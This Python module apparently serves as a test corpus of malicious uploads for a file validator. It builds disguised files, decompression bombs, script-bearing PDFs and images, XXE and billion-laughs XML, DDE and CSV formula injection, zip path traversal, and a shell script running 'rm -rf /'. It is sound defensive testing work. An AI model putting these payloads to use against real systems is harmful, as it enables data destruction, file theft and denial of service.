"""More than a hundred files nobody should have to open, made in memory. Nothing here is taken from elsewhere."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from PIL import Image

SCRIPT = b"<script>alert(document.cookie)</script>"
ACTIVE = (b"<script", b"alert(", b"<svg", b"MZ\x90", b"PK\x03\x04", b"<?php")
"""What must be in no byte of a picture that was taken."""

TYPES = b"""<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"""
DOCUMENT = (
    b"""<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>"""
)
WORKBOOK = b"""<?xml version="1.0"?><workbook><sheets><sheet name="a" sheetId="1"/></sheets></workbook>"""


@dataclass(frozen=True)
class Hostile:
    """A hostile file; ``inert`` means it may be taken when nothing active is left of it."""

    why: str
    name: str
    data: bytes
    inert: bool = False


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **how: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 120 if mode in ("L", "1") else None).save(out, kind, **how)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(wide: int, high: int, grey: bool = True) -> bytes:
    """A PNG of very many dots in very few bytes."""
    packing, rows = zlib.compressobj(9), []
    row = b"\0" * (1 + (wide + 7) // 8)
    for _ in range(high):
        rows.append(packing.compress(row))
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", b"".join(rows) + packing.flush()) + chunk(b"IEND", b"")


def package(parts: Mapping[str, bytes], *, stored: bool = False, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as packed:
        for name, body in parts.items():
            packed.writestr(name, body)
        packed.comment = comment
    return out.getvalue()


def docx(**more: bytes) -> dict[str, bytes]:
    return {"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT, **more}


def xlsx(**more: bytes) -> dict[str, bytes]:
    return {"[Content_Types].xml": TYPES, "xl/workbook.xml": WORKBOOK, **more}


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """A small PDF with these objects besides its page."""
    pages = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )
    body, places = b"%PDF-1.7\n", []
    for number, text in enumerate((*pages, *objects), 1):
        places.append(len(body))
        body += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(places) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n" % count + table
    return body + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, len(body)) + tail


def packed_list(body: bytes, kind: bytes = b"/ObjStm", extra: bytes = b"/Filter/FlateDecode") -> bytes:
    data = zlib.compress(body) if b"Flate" in extra else body
    return b"<</Type%s/N 1/First 4%s/Length %d>>\nstream\n" % (kind, extra, len(data)) + data + b"\nendstream"


def disguised() -> Iterator[Hostile]:
    """One thing under the name of another."""
    contents = {
        "SVG with a script": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "SVG behind an XML declaration": b'<?xml version="1.0"?>\n<svg onload="alert(1)"/>',
        "HTML": b"<!doctype html>" + SCRIPT,
        "HTML after blanks": b"\n \t<HTML>" + SCRIPT,
        "HTML after a BOM": b"\xef\xbb\xbf<html>" + SCRIPT,
        "program": b"MZ\x90\0\x03\0\0\0" + b"\0" * 200,
        "ELF": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
        "GIF": picture("GIF", mode="L"),
        "GIF with script": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
        "BMP": picture("BMP"),
        "TIFF": picture("TIFF"),
        "ICO": picture("ICO", (32, 32)),
        "old Office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "rich text": b"{\\rtf1\\object\\objdata 0105}",
        "PostScript": b"%!PS-Adobe-3.0\n/quit\n",
        "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + b"x" * 30,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 30,
        "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 30,
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "mail with HTML": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT,
        "class file": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 30,
        "Flash": b"FWS\x09\0\0\0\0" + b"\0" * 30,
    }
    endings = ("jpg", "pdf", "txt")
    for number, (why, data) in enumerate(contents.items()):
        yield Hostile(f"{why} as .{endings[number % 3]}", f"x.{endings[number % 3]}", data)
        yield Hostile(f"{why} as .csv", "x.csv", data)
    for ending in ("exe", "html", "svg", "js", "php", "docm", "xlsm", "zip", "hta", "lnk"):
        yield Hostile(f"text as .{ending}", f"x.{ending}", b"hello there")


def pictures() -> Iterator[Hostile]:
    """Pictures that are bombs, broken, or carry something."""
    yield Hostile("177-megapixel PNG of some 21 KB", "x.png", png_bomb(13300, 13300))
    yield Hostile(
        "a PNG one dot high and a milliard wide",
        "x.png",
        png_bomb(8, 1)[:16] + struct.pack(">II", 1 << 30, 1) + png_bomb(8, 1)[24:],
    )
    for size in ((0, 10), (10, 0), (1 << 31, 1 << 31), (100_000, 100_000)):
        good = picture("PNG")
        yield Hostile(f"PNG that claims {size}", "x.png", good[:16] + struct.pack(">II", *size) + good[24:])
    photo = picture("JPEG", (400, 300))
    for part in (4, 20, 100, len(photo) // 2):
        yield Hostile(f"JPEG cut off at {part}", "x.jpg", photo[:part])
    at = photo.index(b"\xff\xc0")
    huge = photo[: at + 5] + struct.pack(">HH", 65500, 65500) + photo[at + 9 :]
    yield Hostile("JPEG that claims 4,290 megapixels", "x.jpg", huge)
    middling = photo[: at + 5] + struct.pack(">HH", 9000, 5000) + photo[at + 9 :]
    yield Hostile("JPEG that claims 45 megapixels and has none", "x.jpg", middling, inert=True)
    yield Hostile("PNG cut off", "x.png", picture("PNG", (300, 300))[:-200])
    yield Hostile("PNG with a wrong checksum", "x.png", picture("PNG")[:-30] + b"\0" * 30)
    yield Hostile("WebP cut off", "x.webp", picture("WEBP", (200, 200))[:40])
    yield Hostile(
        "WebP that claims 16384 x 16384",
        "x.webp",
        b"RIFF\x40\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff\x3f\0\xff\x3f\0" + b"\0" * 40,
    )
    yield Hostile("RIFF that is a sound", "x.wav", b"RIFF\x40\0\0\0WAVEfmt " + b"\0" * 60)
    for kind, name in (("PNG", "x.png"), ("JPEG", "x.jpg"), ("WEBP", "x.webp")):
        good = picture(kind)
        yield Hostile(f"{kind} and HTML behind it", name, good + SCRIPT, inert=True)
        yield Hostile(f"{kind} and a zip behind it", name, good + package({"a.js": b"alert(1)"}), inert=True)
        yield Hostile(f"{kind} called .html", "x.html", good, inert=True)
        yield Hostile(f"{kind} called .php.", "x.php.", good, inert=True)
    yield Hostile("JPEG with a script as its comment", "x.jpg", picture("JPEG", comment=SCRIPT), inert=True)
    yield Hostile(
        "JPEG with a script in its Exif", "x.jpg", picture("JPEG", exif=b"Exif\0\0" + _exif(SCRIPT)), inert=True
    )
    text = chunk(b"tEXt", b"Comment\0" + SCRIPT)
    good = picture("PNG")
    yield Hostile("PNG with a script as its comment", "x.png", good[:33] + text + good[33:], inert=True)
    bomb = chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 90_000_000, 1))
    yield Hostile("PNG with a text bomb", "x.png", good[:33] + bomb + good[33:], inert=True)
    profile = chunk(b"iCCP", b"a\0\0" + zlib.compress(b"\0" * 90_000_000, 1))
    yield Hostile("PNG with a profile bomb", "x.png", good[:33] + profile + good[33:], inert=True)
    frames = [Image.new("RGB", (2000, 2000), (n, n, n)) for n in range(30)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    yield Hostile("PNG of thirty frames", "x.png", out.getvalue(), inert=True)


def _exif(text: bytes) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = text.decode()
    exif[0x8825] = {1: "N", 2: (30.0, 1.0, 2.0)}
    return exif.tobytes().removeprefix(b"Exif\0\0")


def pdfs() -> Iterator[Hostile]:
    """PDF that run, send, open or hide something, plainly or packed."""
    active = {
        "script": b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
        "script in hex": b"<</S/J#61vaScript/J#53<61>>>",
        "script spelt wholly in hex": b"<</S/#4a#61#76#61#53#63#72#69#70#74/#4A#53(1)>>",
        "script in a rendition": b"<</S/Rendition/JS 9 0 R>>",
        "program": b"<</S/Launch/F(cmd.exe)>>",
        "embedded file": b"<</Type/Filespec/EF<</F 9 0 R>>/Names<</EmbeddedFiles 8 0 R>>>>",
        "embedded file stream": packed_list(b"MZ", b"/EmbeddedFile"),
        "player": b"<</Subtype/RichMedia>>",
        "dynamic form": b"<</XFA 9 0 R>>",
        "sending form": b"<</S/SubmitForm/F(http://x.example)>>",
        "reading form": b"<</S/ImportData/F(a.fdf)>>",
        "lock": b"<</Encrypt 9 0 R>>",
    }
    for why, text in active.items():
        yield Hostile(f"PDF with {why}", "x.pdf", pdf(text))
        yield Hostile(f"PDF with packed {why}", "x.pdf", pdf(packed_list(b"9 0 " + text)))
    yield Hostile("PDF with an unpacked list", "x.pdf", pdf(packed_list(b"9 0 <</JS(1)>>", extra=b"")))
    strange = b"/Filter[/ASCIIHexDecode/FlateDecode]"
    yield Hostile("PDF with a strangely packed list", "x.pdf", pdf(packed_list(b"9 0 x", extra=strange)))
    yield Hostile("PDF with a list that is a bomb", "x.pdf", pdf(packed_list(b" " * 60_000_000)))
    yield Hostile("PDF with a broken list", "x.pdf", pdf(b"<</Type/ObjStm/Filter/FlateDecode>>\nstream\nxx\nendstream"))
    yield Hostile("PDF cut off", "x.pdf", pdf()[:-40])
    yield Hostile("PDF and a zip behind it", "x.pdf", pdf(tail=package({"a.js": b"1"})))
    yield Hostile("PDF and HTML behind it", "x.pdf", pdf(tail=SCRIPT))
    yield Hostile("PDF that begins as HTML", "x.pdf", b"<html>" + SCRIPT + pdf())
    yield Hostile("HTML that begins as PDF", "x.pdf", b"%PDF-1.4\n<html>" + SCRIPT)


def offices() -> Iterator[Hostile]:
    """docx and xlsx with macros, entities, objects, templates, bombs; and zips that are neither."""
    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>'
    laughs = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><workbook>&b;</workbook>'
    relation = b'<Relationships><Relationship Type="x/%s" Target="http://x" TargetMode="External"/></Relationships>'
    yield Hostile("xlsx with an outside entity", "x.xlsx", package(xlsx(**{"xl/workbook.xml": entity})))
    yield Hostile("xlsx with many laughs", "x.xlsx", package(xlsx(**{"xl/sharedStrings.xml": laughs})))
    far = b"<x>" + b" " * (3 * 256 * 1024 - 9) + b"<!DOCTYPE x>"
    yield Hostile("xlsx with an entity where two pieces meet", "x.xlsx", package(xlsx(**{"xl/far.xml": far})))
    wide = entity.decode().encode("utf-16")
    yield Hostile("xlsx with an entity in two-byte letters", "x.xlsx", package(xlsx(**{"xl/wide.xml": wide})))
    for folder, parts in (("word", docx), ("xl", xlsx)):
        name = "x.docx" if folder == "word" else "x.xlsx"
        more = {
            "a macro": {f"{folder}/vbaProject.bin": b"\xd0\xcf"},
            "a macro by type": {"[Content_Types].xml": TYPES + b"<Override ContentType='macroEnabled.main+xml'/>"},
            "an object": {f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf"},
            "a control": {f"{folder}/activeX/activeX1.xml": b"<x/>"},
            "an outside template": {f"{folder}/_rels/settings.xml.rels": relation % b"attachedTemplate"},
            "an outside object": {f"{folder}/_rels/a.xml.rels": relation % b"oleObject"},
            "a program": {f"{folder}/media/setup.exe": b"MZ"},
            "a script": {f"{folder}/media/a.js": b"1"},
            "a path upwards": {"../../evil.xml": b"<x/>"},
            "a path from the root": {"/etc/evil.xml": b"<x/>"},
        }
        for why, extra in more.items():
            yield Hostile(f"{name} with {why}", name, package(parts(**extra)))
        yield Hostile(f"{name} with a bomb", name, package(parts(**{f"{folder}/media/a.xml": b" " * 30_000_000})))
        yield Hostile(
            f"{name} with 3,000 parts", name, package(parts(**{f"{folder}/p{n}.xml": b"" for n in range(3000)}))
        )
        yield Hostile(f"{name} with a comment behind it", name, package(parts(), comment=SCRIPT))
        yield Hostile(f"{name} with HTML before it", name, SCRIPT + package(parts()))
        yield Hostile(f"{name} cut off", name, package(parts())[:-30])
    lies = bytearray(package(xlsx(**{"xl/a.xml": b" " * 5_000_000})))
    at = lies.rindex(b"PK\x01\x02", 0, lies.rindex(b"PK\x05\x06"))
    lies[at + 24 : at + 28] = struct.pack("<I", 10)
    yield Hostile("xlsx that lies about its size", "x.xlsx", bytes(lies))
    twice = package(xlsx()) and package({**xlsx(), "XL/workbook.xml": entity})
    yield Hostile("xlsx with a part twice", "x.xlsx", twice)
    yield Hostile("docx that is an xlsx too", "x.docx", package({**docx(), **xlsx()}))
    dde = b"<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:document>"
    yield Hostile("docx with DDE", "x.docx", package(docx(**{"word/document.xml": dde})))
    cell = b"<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>"
    yield Hostile("xlsx with DDE in a cell", "x.xlsx", package(xlsx(**{"xl/worksheets/sheet1.xml": cell})))
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
    yield Hostile("xlsx with a DDE link", "x.xlsx", package(xlsx(**{"xl/externalLinks/externalLink1.xml": link})))
    yield Hostile("a zip", "x.zip", package({"a.txt": b"hello"}))
    yield Hostile("a zip called docx", "x.docx", package({"a.txt": b"hello"}))
    inner = package({"a.txt": b"\0" * 10_000_000})
    yield Hostile("a zip of zips", "x.xlsx", package({f"{n}.zip": inner for n in range(50)}))
    yield Hostile("a Java archive", "x.docx", package({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe"}))
    yield Hostile("an empty zip", "x.xlsx", package({}))
    yield Hostile("zip magic alone", "x.xlsx", b"PK\x03\x04" + b"\0" * 100)


def texts() -> Iterator[Hostile]:
    """Text that is none, and tables whose cells would run."""
    yield Hostile("NUL in a text", "x.txt", b"abc\0def")
    yield Hostile("bytes of no encoding", "x.txt", b"abc\xff\xff\xfe\x80def")
    yield Hostile("escape codes for a terminal", "x.txt", b"abc\x1b[2J\x1b]0;x\x07")
    yield Hostile("HTML in the middle of a text", "x.txt", b"hello\n\n" + SCRIPT)
    for cell in (
        "=1+1",
        "@SUM(A1)",
        "=cmd|'/c calc'!A0",
        "+cmd|'/c calc'!A0",
        "-2+3+cmd|'/c calc'!A0",
        '=HYPERLINK("http://x")',
    ):
        yield Hostile(f"csv with {cell}", "x.csv", f'名称,值\n甲,"{cell.replace(chr(34), chr(34) * 2)}"\n'.encode())
    yield Hostile("csv with a formula in GB18030", "x.csv", "名称,值\n甲,=A1\n".encode("gb18030"))
    yield Hostile("csv with a formula after a tab", "x.csv", b"a,b\n1,\t=A1\n")


def all_of_them() -> list[Hostile]:
    return [*disguised(), *pictures(), *pdfs(), *offices(), *texts()]
